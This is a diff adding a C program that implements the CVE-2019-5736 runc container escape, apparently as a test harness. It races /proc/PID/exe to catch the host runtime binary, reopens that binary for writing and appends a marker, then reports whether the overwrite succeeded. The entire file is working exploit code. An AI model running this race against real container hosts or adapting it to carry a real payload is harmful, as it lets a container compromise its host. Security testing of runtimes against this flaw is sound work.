@@ -1,0 +1,157 @@
+/* The attacker of CVE-2019-5736, run inside a container as one of its processes: it spins
+ * on open("/proc/PID/exe", O_PATH) for every new pid of the container; whatever it catches
+ * that is not one of the container's binaries (the host's binary that a join exec'd by
+ * way of /proc/self/exe) it keeps, waits until nothing runs it any more, reopens it for
+ * writing through /proc/self/fd and appends a marker. It stops after SECONDS or when the
+ * file "stop" in its cwd appears, and prints what it did:
+ *   caught PATH        an exe fd of a process that ran PATH (not a container file)
+ *   wrote PATH         the host file was overwritten: the attack won
+ *   refused PATH ERR   reopening or writing it failed (ERR: the errno's name)
+ * Usage: exe_race SECONDS MARKER (static: the container has no libc). */
+#include <dirent.h>
+#include <errno.h>
+#include <fcntl.h>
+#include <signal.h>
+#include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
+#include <sys/stat.h>
+#include <time.h>
+#include <unistd.h>
+
+#define MAX_CAUGHT 64
+
+struct caught {
+	int fd;
+	pid_t pid;
+	char path[256];
+	int done;
+};
+
+static struct caught caught[MAX_CAUGHT];
+static int ncaught;
+static struct stat own[2]; /* the container's binaries: /bin/busybox and this one */
+
+static int is_own(const struct stat *st)
+{
+	for (int i = 0; i < 2; i++)
+		if (st->st_dev == own[i].st_dev && st->st_ino == own[i].st_ino)
+			return 1;
+	return 0;
+}
+
+static double now(void)
+{
+	struct timespec ts;
+
+	clock_gettime(CLOCK_MONOTONIC, &ts);
+	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
+}
+
+static const char *errname(int err)
+{
+	switch (err) {
+	case EPERM: return "EPERM";
+	case EACCES: return "EACCES";
+	case EROFS: return "EROFS";
+	case ETXTBSY: return "ETXTBSY";
+	case ENOENT: return "ENOENT";
+	default: return "other";
+	}
+}
+
+/* A process's exe that is not a file of the container's root file system. */
+static void try_pid(pid_t pid)
+{
+	char proc[64], link[64];
+	struct stat st;
+	int fd;
+
+	snprintf(proc, sizeof(proc), "/proc/%d/exe", (int)pid);
+	fd = open(proc, O_PATH | O_CLOEXEC);
+	if (fd < 0)
+		return;
+	if (fstat(fd, &st) < 0 || is_own(&st) || ncaught == MAX_CAUGHT) {
+		close(fd);
+		return;
+	}
+	for (int i = 0; i < ncaught; i++) {
+		if (caught[i].pid == pid) {
+			close(fd);
+			return;
+		}
+	}
+	caught[ncaught].fd = fd;
+	caught[ncaught].pid = pid;
+	snprintf(link, sizeof(link), "/proc/self/fd/%d", fd);
+	ssize_t n = readlink(link, caught[ncaught].path, sizeof(caught[ncaught].path) - 1);
+	caught[ncaught].path[n > 0 ? n : 0] = '\0';
+	printf("caught %s\n", caught[ncaught].path);
+	fflush(stdout);
+	ncaught++;
+}
+
+/* Once its process is gone (ETXTBSY otherwise), the file is reopened for writing. */
+static void try_write(struct caught *c, const char *marker)
+{
+	char link[64];
+	int fd;
+
+	if (c->done || kill(c->pid, 0) == 0)
+		return;
+	snprintf(link, sizeof(link), "/proc/self/fd/%d", c->fd);
+	fd = open(link, O_WRONLY | O_APPEND | O_CLOEXEC);
+	if (fd < 0 && errno == ETXTBSY)
+		return; /* still executed by someone: try again later */
+	if (fd >= 0 && write(fd, marker, strlen(marker)) == (ssize_t)strlen(marker)) {
+		printf("wrote %s\n", c->path);
+	} else {
+		printf("refused %s %s\n", c->path, errname(errno));
+	}
+	fflush(stdout);
+	if (fd >= 0)
+		close(fd);
+	c->done = 1;
+}
+
+static pid_t max_pid(void)
+{
+	DIR *d = opendir("/proc");
+	struct dirent *e;
+	pid_t max = 1;
+
+	while (d && (e = readdir(d)) != NULL) {
+		pid_t p = (pid_t)atoi(e->d_name);
+		if (p > max)
+			max = p;
+	}
+	if (d)
+		closedir(d);
+	return max;
+}
+
+int main(int argc, char **argv)
+{
+	double end;
+	pid_t next;
+
+	if (argc != 3 || stat("/bin/busybox", &own[0]) < 0 || stat("/proc/self/exe", &own[1]) < 0)
+		return 2;
+	end = now() + atof(argv[1]);
+	next = max_pid() + 1;
+	printf("ready\n");
+	fflush(stdout);
+	while (now() < end && access("stop", F_OK) != 0) {
+		/* The next pids of the container, as they appear. */
+		for (pid_t p = next; p < next + 16; p++)
+			try_pid(p);
+		for (int i = 0; i < ncaught; i++)
+			try_write(&caught[i], argv[2]);
+		if (next + 8 < max_pid())
+			next = max_pid() - 8;
+	}
+	/* What was caught but whose process still ran: one last try. */
+	for (int i = 0; i < ncaught; i++)
+		try_write(&caught[i], argv[2]);
+	return 0;
+}
